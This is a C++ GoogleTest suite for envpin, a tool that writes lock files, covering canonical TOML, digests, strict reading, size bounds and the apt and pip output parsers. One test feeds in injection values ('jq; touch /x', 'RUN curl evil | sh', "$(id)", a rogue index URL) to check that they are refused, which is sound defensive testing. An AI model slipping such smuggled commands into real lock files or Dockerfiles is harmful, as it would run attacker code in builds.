// SPDX-License-Identifier: Apache-2.0
// envpin.lock: canonical bytes, digests, strict reading, and the parsers of apt's and pip's
// output (recorded from the real tools in tests/fakes/recorded).
#include <gtest/gtest.h>
#include <unistd.h>
#include <yaml-cpp/yaml.h>
#include <filesystem>
#include <set>
#include <sstream>

#include "diag/error.hpp"
#include "io/atomic_file.hpp"
#include "lock/lock.hpp"
#include "loopback_server.hpp"
#include "manifest/keys.hpp"
#include "manifest/load.hpp"
#include "net/registry.hpp"
#include "resolve/pins.hpp"

namespace envpin::lock {
namespace {

std::string recorded(const std::string& name) {
  return *io::read_file(std::string(ENVPIN_SOURCE_DIR) + "/tests/fakes/recorded/" + name);
}

Lock sample() {
  Lock l;
  l.created_by = "envpin 0.1.0";
  l.platforms = {"linux/amd64"};
  l.inputs_digest = "sha256:" + std::string(64, 'a');
  l.image = Image{"127.0.0.1:5000/base:12",
                  "127.0.0.1:5000/base:12@sha256:" + std::string(64, 'b'),
                  "sha256:" + std::string(64, 'b'),
                  "application/vnd.oci.image.index.v1+json",
                  {{"linux/amd64", "sha256:" + std::string(64, 'c'), "sha256:" + std::string(64, 'd')}}};
  l.apt_sources = {{"deb.debian.org/debian", "http://deb.debian.org/debian"}};
  l.apt = {{"libjq1", "1.6-2.1+deb12u2", "amd64", "deb.debian.org/debian", "", "pool/main/j/jq/libjq1.deb", 136460,
            std::string(64, 'e')},
           {"jq", "1.6-2.1+deb12u2", "amd64", "deb.debian.org/debian", "jq", "pool/main/j/jq/jq.deb", 64432,
            std::string(64, 'f')}};
  l.python_index = "https://pypi.org/simple";
  l.python = {{"numpy",
               "1.26.4",
               "numpy==1.26.4",
               {{"numpy-1.26.4-cp311-cp311-manylinux.whl", "https://x/n.whl", std::string(64, '1')}}}};
  l.files = {{"requirements.txt", 12, "0644", std::string(64, '2')}};
  seal(l);
  return l;
}

TEST(Lock, CanonicalTextRoundTrips) {
  const Lock l = sample();
  const std::string text = to_toml(l);
  const Lock back = parse(text, "envpin.lock");
  EXPECT_EQ(to_toml(back), text);
  EXPECT_EQ(compute_lock_digest(back), l.lock_digest);
  // seal sorted the apt entries by name.
  EXPECT_EQ(back.apt[0].name, "jq");
  EXPECT_EQ(back.apt[0].requested, "jq");
  EXPECT_EQ(back.apt[1].requested, "");
  EXPECT_NE(
      text.find("\n[[apt]]\nname = \"jq\"\nversion = \"1.6-2.1+deb12u2\"\narch = \"amd64\"\nrequested = \"jq\"\n"),
      std::string::npos)
      << text;
}

TEST(Lock, DigestCoversEveryValueButItself) {
  Lock l = sample();
  const std::string before = l.lock_digest;
  EXPECT_EQ(before, compute_lock_digest(l));
  l.apt[1].version = "1.6-2.1+deb12u3";
  EXPECT_NE(compute_lock_digest(l), before);
  l = sample();
  l.lock_digest = "sha256:whatever";
  EXPECT_EQ(compute_lock_digest(l), before);
  // The JSON it covers has sorted keys and no lock-digest.
  const std::string json = to_json(l, true);
  EXPECT_EQ(json.find("lock-digest"), std::string::npos);
  EXPECT_EQ(json.rfind("{\"apt\":[", 0), 0u) << json.substr(0, 40);
}

TEST(Lock, StringsAreEscaped) {
  Lock l = sample();
  l.files[0].path = "odd \"name\"\\.txt";
  seal(l);
  const std::string text = to_toml(l);
  EXPECT_NE(text.find(R"(path = "odd \"name\"\\.txt")"), std::string::npos) << text;
  EXPECT_EQ(parse(text, "envpin.lock").files[0].path, l.files[0].path);
}

// A lock is hostile input too: its values reach FROM, apt-get install and requirements.lock.
TEST(Lock, ValuesThatWouldBecomeCodeAreRefused) {
  const auto refused = [](auto edit) {
    Lock l = sample();
    edit(l);
    seal(l);  // a forger recomputes the digest; the shapes still give it away
    try {
      parse(to_toml(l), "envpin.lock");
    } catch (const diag::Error& e) {
      return diag::format(e);
    }
    return std::string();
  };
  EXPECT_EQ(refused([](Lock& l) { l.files[0].path = "tab\there"; }),
            "envpin: error: envpin.lock: [[file]] 'tab\\there': 'path' holds a character no lock value may hold\n"
            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
  EXPECT_EQ(refused([](Lock& l) { l.apt[0].name = "jq; touch /x"; }),
            "envpin: error: envpin.lock: [[apt]]: name 'jq; touch /x' is not what envpin writes\n"
            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
  EXPECT_NE(refused([](Lock& l) { l.apt[0].version = "1.6\nRUN curl evil | sh"; }), "");
  EXPECT_NE(refused([](Lock& l) { l.image->reference = "debian@sha256:x AS y\nRUN id"; }), "");
  EXPECT_NE(refused([](Lock& l) { l.python[0].version = "1.0 --index-url http://evil"; }), "");
  EXPECT_NE(refused([](Lock& l) { l.python[0].files[0].sha256 = "0"; }), "");
  EXPECT_NE(refused([](Lock& l) { l.python_index = "http://x' $(id) '"; }), "");
  // A credential in a URL: refused (envpin never writes one into a file users commit), and the
  // refusal does not print it (issue 49, class 5).
  EXPECT_EQ(refused([](Lock& l) { l.python[0].files[0].url = "https://user:hunter2pw@x/n.whl"; }),
            "envpin: error: envpin.lock: [[python]] 'numpy': url 'https://<credential>@x/n.whl' is not what envpin "
            "writes\n"
            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
  const std::string token = refused([](Lock& l) { l.python_index = "https://x/simple?token=hunter2pw"; });
  EXPECT_NE(token, "");
  EXPECT_EQ(token.find("hunter2pw"), std::string::npos) << token;
}

std::string error_of(const std::string& text) {
  try {
    parse(text, "envpin.lock");
  } catch (const diag::Error& e) {
    return diag::format(e);
  }
  return "";
}

TEST(Lock, ReadingRejectsWhatEnvpinDidNotWrite) {
  const std::string good = to_toml(sample());
  EXPECT_EQ(error_of(good.substr(0, 120)).rfind("envpin: error: envpin.lock:", 0), 0u);
  EXPECT_NE(error_of(good.substr(0, 120)).find("the lock is not valid TOML"), std::string::npos);
  std::string newer = good;
  newer.replace(newer.find("lock-version = \"1.0\""), 20, "lock-version = \"2.0\"");
  EXPECT_EQ(error_of(newer),
            "envpin: error: envpin.lock: lock-version 2.0 is not supported by this envpin (it reads 1.0)\n"
            "envpin: hint: upgrade envpin, or run 'envpin lock' to rewrite the lock\n");
  std::string no_hash = good;
  no_hash.erase(no_hash.find("sha256 = \"ffff"), 75);
  EXPECT_EQ(error_of(no_hash),
            "envpin: error: envpin.lock: [[apt]] 'jq' has no 'sha256'\n"
            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
  std::string bad_type = good;
  bad_type.replace(bad_type.find("size = 64432"), 12, "size = \"64432\"");
  EXPECT_EQ(error_of(bad_type),
            "envpin: error: envpin.lock: [[apt]] 'jq': 'size' must be an integer\n"
            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
}

// What a node pulls: the image's compressed layers and each wheel's bytes, recorded where the
// registry and the index said; a lock without them (written before, or where they did not say)
// keeps its bytes and digest.
TEST(Lock, SizesAreRecordedWhereKnownAndBounded) {
  Lock l = sample();
  const std::string before = to_toml(l);
  EXPECT_EQ(before.find(", size = "), std::string::npos) << before;
  l.image->platforms[0].size = 31457280;
  l.python[0].files[0].size = 18000000;
  seal(l);
  const std::string text = to_toml(l);
  EXPECT_NE(text.find("config = \"sha256:" + std::string(64, 'd') + "\", size = 31457280 },\n"), std::string::npos)
      << text;
  EXPECT_NE(text.find("sha256 = \"" + std::string(64, '1') + "\", size = 18000000 },\n"), std::string::npos) << text;
  const Lock back = parse(text, "envpin.lock");
  EXPECT_EQ(back.image->platforms[0].size, 31457280);
  EXPECT_EQ(back.python[0].files[0].size, 18000000);
  EXPECT_EQ(to_toml(back), text);
  EXPECT_NE(l.lock_digest, sample().lock_digest);
  for (const std::string& bad : {"0", "-5", "2199023255552"}) {
    std::string edited = text;
    edited.replace(edited.find("size = 18000000"), 15, "size = " + bad);
    EXPECT_EQ(error_of(edited),
              "envpin: error: envpin.lock: [[python]] 'numpy': 'size' " + bad +
                  " is not a size envpin records (1 byte to 1 TiB)\n"
                  "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
  }
  // A .deb's and a file's size are bounded the same way (issue 49: an apt size -5 passed verify,
  // and mirror wrote "Size: -5" into its Packages file); a file may be empty.
  for (const std::string& bad : {"0", "-5", "2199023255552"}) {
    std::string edited = text;
    edited.replace(edited.find("size = 136460"), 13, "size = " + bad);
    EXPECT_EQ(error_of(edited), "envpin: error: envpin.lock: [[apt]] 'libjq1': 'size' " + bad +
                                    " is not a size envpin records (1 byte to 1 TiB)\n"
                                    "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to "
                                    "rewrite it\n");
  }
  for (const std::string& bad : {"-1", "2199023255552"}) {
    std::string edited = text;
    edited.replace(edited.find("size = 12\n"), 10, "size = " + bad + "\n");
    EXPECT_EQ(error_of(edited), "envpin: error: envpin.lock: [[file]] 'requirements.txt': 'size' " + bad +
                                    " is not a size envpin records (0 bytes to 1 TiB)\n"
                                    "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to "
                                    "rewrite it\n");
  }
}

TEST(Lock, AWheelOfTheSameHashKeepsThePreviousLocksSize) {
  // The index answers HEAD with another size, and a file with no match in the old lock asks it.
  test::Server index("HTTP/1.1 200 OK\r\nContent-Length: 777\r\nConnection: close\r\n\r\n");
  std::vector<PythonPackage> now = {
      {"same", "1.0", "", {{"same-1.0-py3-none-any.whl", index.url("/same.whl"), std::string(64, 'a'), 0}}},
      {"new", "2.0", "", {{"new-2.0-py3-none-any.whl", index.url("/new.whl"), std::string(64, 'b'), 0}}}};
  Lock previous;
  previous.python = {
      {"same", "1.0", "", {{"same-1.0-py3-none-any.whl", "http://127.0.0.1:1/gone.whl", std::string(64, 'a'), 1234}}},
      {"new", "1.0", "", {{"new-1.0-py3-none-any.whl", "http://127.0.0.1:1/gone.whl", std::string(64, 'c'), 99}}}};
  resolve::record_wheel_sizes(now, previous);
  EXPECT_EQ(now[0].files[0].size, 1234);  // the same bytes: the same size, no request
  EXPECT_EQ(now[1].files[0].size, 777);   // another hash: asked
  ASSERT_EQ(index.requests().size(), 1u);
  EXPECT_EQ(index.requests()[0].rfind("HEAD /new.whl ", 0), 0u) << index.requests()[0];
  // Without a previous lock, each is asked; an index that is down leaves 0 (unknown), never a guess.
  now[0].files[0].size = 0;
  resolve::record_wheel_sizes(now, std::nullopt);
  EXPECT_EQ(now[0].files[0].size, 777);
  now[0].files[0].url = "http://127.0.0.1:1/down.whl";
  resolve::record_wheel_sizes(now, std::nullopt);
  EXPECT_EQ(now[0].files[0].size, 0);
}

TEST(Lock, RequirementsLockIsPipHashFormat) {
  EXPECT_EQ(requirements_lock(sample()),
            "# @generated by envpin from envpin.lock; pip install --require-hashes --no-deps -r this file\n"
            "numpy==1.26.4 \\\n    --hash=sha256:" +
                std::string(64, '1') + "\n");
}

// torch and its CUDA libraries install in a layer of their own: the two files are
// requirements.lock's lines, each once, split by lock::heavy_wheel on the normalized name.
TEST(Lock, HeavyWheelsSplitFromTheRest) {
  EXPECT_TRUE(heavy_wheel("torch"));
  EXPECT_TRUE(heavy_wheel("TorchVision"));
  EXPECT_TRUE(heavy_wheel("NVIDIA_cudnn.cu12"));
  EXPECT_TRUE(heavy_wheel("triton"));
  EXPECT_FALSE(heavy_wheel("torchmetrics"));
  EXPECT_FALSE(heavy_wheel("nvidia"));
  EXPECT_FALSE(heavy_wheel("numpy"));
  // Any wheel of 100 MB or more by the lock's sizes; one without a recorded size goes by its name.
  EXPECT_TRUE(heavy_wheel(
      PythonPackage{"tensorflow", "2.16.1", "", {{"tf.whl", "https://x/tf", std::string(64, 'a'), 589000000}}}));
  EXPECT_FALSE(
      heavy_wheel(PythonPackage{"pandas", "2.2.3", "", {{"pd.whl", "https://x/pd", std::string(64, 'a'), 13000000}}}));
  EXPECT_FALSE(
      heavy_wheel(PythonPackage{"tensorflow", "2.16.1", "", {{"tf.whl", "https://x/tf", std::string(64, 'a')}}}));
  Lock l;
  for (const char* name : {"numpy", "nvidia-cublas-cu12", "torch", "tqdm", "triton"})
    l.python.push_back(
        {name, "1.0", "", {{std::string(name) + "-1.0.whl", "https://x/" + std::string(name), std::string(64, 'a')}}});
  const std::string heavy = requirements_lock(l, true), rest = requirements_lock(l, false);
  EXPECT_NE(heavy.find("\nnvidia-cublas-cu12==1.0 \\\n"), std::string::npos) << heavy;
  EXPECT_NE(heavy.find("\ntorch==1.0 "), std::string::npos);
  EXPECT_NE(heavy.find("\ntriton==1.0 "), std::string::npos);
  EXPECT_EQ(heavy.find("numpy"), std::string::npos);
  EXPECT_NE(rest.find("\nnumpy==1.0 "), std::string::npos);
  EXPECT_NE(rest.find("\ntqdm==1.0 "), std::string::npos);
  EXPECT_EQ(rest.find("torch"), std::string::npos);
  // Together, the whole file's lines (after the one header each has).
  const auto body = [](const std::string& t) { return t.substr(t.find('\n') + 1); };
  std::string all = body(requirements_lock(l));
  for (const std::string& part : {body(heavy), body(rest)})
    for (std::size_t at = 0; at < part.size();) {
      const std::size_t end = part.find("\n", part.find("--hash", at)) + 1;
      const std::string entry = part.substr(at, end - at);
      const std::size_t found = all.find(entry);
      ASSERT_NE(found, std::string::npos) << entry;
      all.erase(found, entry.size());
      at = end;
    }
  EXPECT_EQ(all, "");
}

TEST(Lock, InputsDigestFollowsWhatAffectsResolution) {
  const auto digest = [](const std::string& yaml) {
    return inputs_digest(manifest::parse("envpin: 1\nname: x\n" + yaml, "envpin.yaml", "."));
  };
  const std::string base = digest("apt: [jq]\n");
  EXPECT_EQ(digest("apt: [jq]\nsecrets: [TOKEN]\nenv: {A: b}\n"), base);
  EXPECT_NE(digest("apt: [jq, git]\n"), base);
  EXPECT_NE(digest("apt: [jq=1.6-2.1]\n"), base);
  EXPECT_NE(digest("apt: [jq]\nplatforms: [linux/arm64]\n"), base);
  EXPECT_NE(digest("apt: [jq]\npython: {version: '3.11', packages: [numpy]}\n"), base);
  // cuda.require_check: off can change the toolkit auto chooses: the lock goes stale with it; a
  // manifest without the key keeps the digest it had.
  const std::string cuda = digest("cuda: {version: auto, gpus: [A100], driver: 545.23.08}\n");
  EXPECT_EQ(digest("cuda: {version: auto, gpus: [A100], driver: 545.23.08, require_check: true}\n"), cuda);
  EXPECT_NE(digest("cuda: {version: auto, gpus: [A100], driver: 545.23.08, require_check: off}\n"), cuda);
}

TEST(Lock, ParsesAptPrintUrisAsAptPrintsThem) {
  std::vector<AptSource> sources;
  const auto packages = resolve::parse_apt_print_uris(recorded("apt-download-print-uris.txt"), sources);
  ASSERT_EQ(packages.size(), 4u);
  EXPECT_EQ(packages[0].name, "libonig5");
  EXPECT_EQ(packages[0].version, "6.9.8-1");
  EXPECT_EQ(packages[0].arch, "amd64");
  EXPECT_EQ(packages[0].filename, "pool/main/libo/libonig/libonig5_6.9.8-1_amd64.deb");
  EXPECT_EQ(packages[0].size, 187828);
  EXPECT_EQ(packages[0].sha256, "59ecfce6d88c7c4b09496ce182b3b8303e8e8477664e009b16ae83a09cd12be7");
  EXPECT_EQ(packages[0].source, "deb.debian.org/debian");
  // '+' arrives %-encoded; the security archive is its own source.
  EXPECT_EQ(packages[1].version, "1.6-2.1+deb12u3");
  EXPECT_EQ(packages[1].source, "deb.debian.org/debian-security");
  EXPECT_EQ(packages[1].filename, "pool/updates/main/j/jq/jq_1.6-2.1+deb12u3_amd64.deb");
  // The epoch is in the file name apt would save, not in the pool path.
  EXPECT_EQ(packages[3].name, "git");
  EXPECT_EQ(packages[3].version, "1:2.39.5-0+deb12u3");
  ASSERT_EQ(sources.size(), 2u);
  EXPECT_EQ(sources[1].uri, "http://deb.debian.org/debian-security");
}

TEST(Lock, ParsesPipReport) {
  const auto packages = resolve::parse_pip_report(recorded("pip-report.json"));
  ASSERT_EQ(packages.size(), 1u);
  EXPECT_EQ(packages[0].name, "tinydep");
  EXPECT_EQ(packages[0].version, "0.3.1");
  ASSERT_EQ(packages[0].files.size(), 1u);
  EXPECT_EQ(packages[0].files[0].name, "tinydep-0.3.1-py3-none-any.whl");
  EXPECT_EQ(packages[0].files[0].url, "http://127.0.0.1:8000/packages/tinydep-0.3.1-py3-none-any.whl");
  EXPECT_EQ(packages[0].files[0].sha256, "cc3789b404fc143d012d2ce4e89080a6d3ecbd50af5a46f450468a86f0326f9a");
  EXPECT_THROW(resolve::parse_pip_report("{not json"), diag::Error);
  EXPECT_THROW(resolve::parse_pip_report(R"({"install": [{"metadata": {"name": "x", "version": "1"}}]})"), diag::Error);
}

TEST(ImageReference, DockerGrammar) {
  struct Case {
    const char* text;
    const char* registry;
    const char* repository;
    const char* tag;
  } cases[] = {
      {"debian", "registry-1.docker.io", "library/debian", "latest"},
      {"debian:bookworm-slim", "registry-1.docker.io", "library/debian", "bookworm-slim"},
      {"docker.io/library/debian:12", "registry-1.docker.io", "library/debian", "12"},
      {"nvidia/cuda:12.4.1-runtime-ubuntu22.04", "registry-1.docker.io", "nvidia/cuda", "12.4.1-runtime-ubuntu22.04"},
      {"127.0.0.1:5000/envpin/base:1", "127.0.0.1:5000", "envpin/base", "1"},
      {"localhost/x", "localhost", "x", "latest"},
      {"ghcr.io/astral-sh/uv:0.12.9", "ghcr.io", "astral-sh/uv", "0.12.9"},
      {"localhost:5000/foo:1.0", "localhost:5000", "foo", "1.0"},
      {"my_org/x", "registry-1.docker.io", "my_org/x", "latest"},  // '_' is no host: a Hub path
      {"a/b", "registry-1.docker.io", "a/b", "latest"},
      {"reg.example.com:443/a/b/c:v_1.2-rc", "reg.example.com:443", "a/b/c", "v_1.2-rc"},
      {"x__y/z--w", "registry-1.docker.io", "x__y/z--w", "latest"},
  };
  for (const Case& c : cases) {
    const net::ImageReference r = net::parse_image_reference(c.text);
    EXPECT_EQ(r.registry, c.registry) << c.text;
    EXPECT_EQ(r.repository, c.repository) << c.text;
    EXPECT_EQ(r.tag, c.tag) << c.text;
  }
  const auto pinned = net::parse_image_reference("debian:12@sha256:" + std::string(64, 'a'));
  EXPECT_EQ(pinned.digest, "sha256:" + std::string(64, 'a'));
  EXPECT_EQ(pinned.written, "debian:12");
  EXPECT_THROW(net::parse_image_reference("Debian:12"), diag::Error);
  EXPECT_THROW(net::parse_image_reference("debian@sha256:short"), diag::Error);
}

}  // namespace
}  // namespace envpin::lock

namespace envpin::lock {
namespace {

TEST(PackagesIndex, FindsOnlyTheWantedStanzas) {
  // Three stanzas cut from Debian bookworm's main/binary-amd64/Packages.
  const std::string text = recorded("Packages-snippet");
  const auto entries = resolve::scan_packages_index(text, {"libjq1", "jq", "not-there"});
  ASSERT_EQ(entries.size(), 2u);
  EXPECT_EQ(entries[0].name, "jq");
  EXPECT_EQ(entries[0].version, "1.6-2.1+deb12u2");
  EXPECT_EQ(entries[0].arch, "amd64");
  EXPECT_EQ(entries[0].size, 63984);
  EXPECT_EQ(entries[0].sha256, "f2303584378ac85f6d3a9ae8e46412196061681e81610d3b020abe4b5d389eb0");
  EXPECT_EQ(entries[0].filename, "pool/main/j/jq/jq_1.6-2.1+deb12u2_amd64.deb");
  EXPECT_EQ(entries[1].name, "libjq1");
  // No trailing blank line, and CRLF-free text without the last newline, still parse.
  std::string cut = text;
  while (!cut.empty() && cut.back() == '\n') cut.pop_back();
  EXPECT_EQ(resolve::scan_packages_index(cut, {"libonig5"}).size(), 1u);
  EXPECT_TRUE(resolve::scan_packages_index("", {"jq"}).empty());
}

}  // namespace
}  // namespace envpin::lock

namespace envpin::lock {
namespace {

// Every key the loader accepts is classified here: whether it is an input of what `envpin lock`
// resolves (so it must change inputs-digest, or a stale lock passes as fresh) or not (it must not,
// or every edit of a job setting would ask for a new lock). A key the loader gains without a row
// fails the test (issue 35: forgetting a key in inputs_digest was silent).
struct KeyCase {
  std::string path;   // "cuda.driver"
  std::string value;  // YAML for the key; "" when it cannot be changed alone (a section, the schema version)
  bool digest;
  std::string remove = "";  // a key of the base the example excludes ("python.packages" for python.requirements)
};

const std::vector<KeyCase>& key_cases() {
  static const std::vector<KeyCase> cases = {
      {"envpin", "", false},
      {"name", "other", false},
      {"platforms", "[linux/arm64]", true},
      {"os", "ubuntu20.04", true},
      {"base", "", true},  // with cuda, refused; checked in its own case below
      {"cuda", "", true},
      {"cuda.version", "'12.6'", true},
      {"cuda.flavor", "devel", true},
      {"cuda.cudnn", "true", true},
      {"cuda.gpus", "[H100]", true},
      {"cuda.driver", "'>=550.54.15'", true},
      {"cuda.forward_compat", "true", true},
      {"cuda.repository", "registry.example.com/nvidia/cuda", true},
      {"cuda.require_check", "off", true},
      {"python", "", true},
      {"python.version", "'3.12'", true},
      {"python.packages", "['numpy==2.1.0']", true},
      {"python.requirements", "requirements.txt", true, "python.packages"},
      {"python.index", "https://pypi.example.org/simple", true},
      {"python.extra_index", "[https://download.pytorch.org/whl/cu124]", true},
      {"python.source", "system", true},
      {"python.uv_image", "ghcr.io/astral-sh/uv:0.5.11", true},
      {"apt", "[git, curl]", true},
      {"env", "{A: '1'}", false},
      {"secrets", "[HF_TOKEN]", false},
      {"paths", "{data: /data}", false},
      {"workdir", "/src", false},
      {"user", "", false},
      {"user.name", "builder", false},
      {"user.uid", "2000", false},
      {"context", "", false},
      {"context.exclude", "[data]", false},
      {"context.allow_secrets", "[.env.example]", false},
      {"context.include_gitignored", "true", false},
      {"devcontainer", "", false},
      {"devcontainer.extensions", "[ms-python.python]", false},
      {"devcontainer.forward_ports", "[8888]", false},
      {"devcontainer.gpu", "optional", false},
      {"jobs", "", false},
      {"jobs.checkpoints", "{path: /ckpt}", false},
      {"jobs.logs", "joblogs", false},
      {"jobs.restart", "{max: 5}", false},
      {"jobs.resume", "[--resume]", false},
      {"jobs.env", "[WANDB_API_KEY]", false},
      {"jobs.gpus", "all", false},
      {"jobs.stop_timeout", "60", false},
      {"jobs.slurm", "{time: '01:00:00'}", false},
      {"jobs.launch", "srun", false},
      {"jobs.nodes", "2", false},
      {"jobs.gpus_per_node", "4", false},
      {"jobs.notify", "{url: 'https://hooks.example.org/x'}", false},
      {"jobs.idle", "{gpu_util_below: 5, for: 30m}", false},
      {"jobs.data", "[data]", false},
      {"jobs.push", "registry.example.com/team/x", false},
      {"jobs.checkpoints.path", "/ckpt", false},
      {"jobs.checkpoints.host", "ckpts", false},
      {"jobs.checkpoints.keep", "3", false},
      {"jobs.checkpoints.pattern", "['*.pt']", false},
      {"jobs.restart.max", "7", false},
      {"jobs.restart.backoff", "10", false},
      {"jobs.slurm.time", "'02:00:00'", false},
      {"jobs.slurm.warn", "300", false},
      {"jobs.slurm.partition", "gpu", false},
      {"jobs.slurm.checkpoints", "/shared/ckpt", false},
      {"jobs.notify.url", "'https://hooks.example.org/y'", false},
      {"jobs.notify.url_secret", "HOOK_URL", false, "jobs.notify.url"},
      {"jobs.notify.on", "[failed]", false},
      {"jobs.notify.timeout", "5", false},
      {"jobs.idle.gpu_util_below", "10", false},
      {"jobs.idle.for", "1h", false},
      {"jobs.idle.every", "5m", false},
      {"jobs.idle.action", "notify", false},
      // A job setting, never an input of the lock; the section needs image, command and claim together.
      {"jobs.kubernetes", "", false},
      {"jobs.kubernetes.image", "", false},
      {"jobs.kubernetes.command", "", false},
      {"jobs.kubernetes.name", "", false},
      {"jobs.kubernetes.namespace", "", false},
      {"jobs.kubernetes.claim", "", false},
      {"jobs.kubernetes.secret", "", false},
      // The development container's servers: what runs in the image, never what is in it.
      {"dev", "", false},
      {"dev.servers", "[{name: nb}]", false},
      {"dev.idle_stop", "30m", false},
      {"dev.servers.name", "", false},
      {"dev.servers.kind", "", false},
      {"dev.servers.port", "", false},
      {"dev.servers.command", "", false},
      {"dev.servers.logdir", "", false},
      {"outputs", "", false},
      {"outputs.dockerfile", "docker/Dockerfile", false},
      {"outputs.devcontainer", ".devcontainer/other.json", false},
      {"outputs.check_env", "tools/check_env.sh", false},
      {"outputs.dockerignore", "docker/.dockerignore", false},
  };
  return cases;
}

class InputsDigest : public testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() / ("envpin-digest-" + std::to_string(::getpid()));
    std::filesystem::create_directories(dir_);
    io::write_atomic(dir_ / "requirements.txt", "numpy==2.0.0\n", false);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  // The digest of the base manifest with `path` set to `value` (YAML).
  std::string digest(const std::string& base, const std::string& path = "", const std::string& value = "",
                     const std::string& remove = "") {
    YAML::Node root = YAML::Load(base);
    if (!remove.empty()) {
      const auto dot = remove.rfind('.');
      YAML::Node parent = root;
      std::stringstream ss(remove.substr(0, dot));
      for (std::string p; std::getline(ss, p, '.');) parent.reset(parent[p]);
      parent.remove(remove.substr(dot + 1));
    }
    if (!path.empty()) {
      std::vector<std::string> parts;
      std::stringstream ss(path);
      for (std::string p; std::getline(ss, p, '.');) parts.push_back(p);
      YAML::Node leaf = YAML::Load(value);
      if (parts.size() == 1) root[parts[0]] = leaf;
      if (parts.size() == 2) root[parts[0]][parts[1]] = leaf;
      if (parts.size() == 3) root[parts[0]][parts[1]][parts[2]] = leaf;
    }
    YAML::Emitter out;
    out << root;
    return inputs_digest(manifest::parse(out.c_str(), "envpin.yaml", dir_));
  }
  std::filesystem::path dir_;
};

constexpr const char* kCudaBase =
    "envpin: 1\nname: base\nplatforms: [linux/amd64]\nos: ubuntu22.04\n"
    "cuda: {version: '12.4', gpus: [A100]}\n"
    "python: {version: '3.11', packages: ['numpy==2.0.0']}\napt: [git]\nuser: {name: dev}\n"
    "jobs: {launch: torchrun, checkpoints: {path: /checkpoints}, restart: {max: 3}, slurm: {time: '00:30:00'}, "
    "notify: {url: 'https://hooks.example.org/a'}, idle: {gpu_util_below: 1, for: 10m}}\n";

TEST_F(InputsDigest, EveryKeyIsClassifiedAndTheDigestFollowsIt) {
  std::set<std::string> classified;
  for (const KeyCase& c : key_cases()) classified.insert(c.path);
  // The table of keys (tool/manifest/keys.cpp) says the same as the examples here.
  for (const manifest::KeyDoc& k : manifest::manifest_keys()) {
    const auto it =
        std::find_if(key_cases().begin(), key_cases().end(), [&](const KeyCase& c) { return c.path == k.path; });
    if (it != key_cases().end()) EXPECT_EQ(it->digest, k.locked) << k.path << ": keys.cpp and key_cases() disagree";
  }
  for (const std::string& key : manifest::known_keys())
    EXPECT_TRUE(classified.count(key)) << key << " is a manifest key with no row in key_cases(): say whether it is "
                                       << "an input of envpin lock, and make inputs_digest agree";
  const std::string before = digest(kCudaBase);
  for (const KeyCase& c : key_cases()) {
    if (c.value.empty()) continue;
    std::string after;
    try {
      after = digest(kCudaBase, c.path, c.value, c.remove);
    } catch (const diag::Error& e) {
      ADD_FAILURE() << c.path << ": the example " << c.value << " is refused: " << e.message();
      continue;
    }
    EXPECT_EQ(after != before, c.digest) << c.path << " = " << c.value
                                         << (c.digest ? " changes what envpin lock resolves, not inputs-digest"
                                                      : " changes inputs-digest, but envpin lock does not read it");
  }
  // base replaces the OS image; it is an input, shown without CUDA (with it, nvidia/cuda is the base).
  const std::string plain = "envpin: 1\nname: base\npython: {version: '3.11'}\n";
  EXPECT_NE(digest(plain, "base", "python:3.11-slim"), digest(plain));
}

}  // namespace
}  // namespace envpin::lock
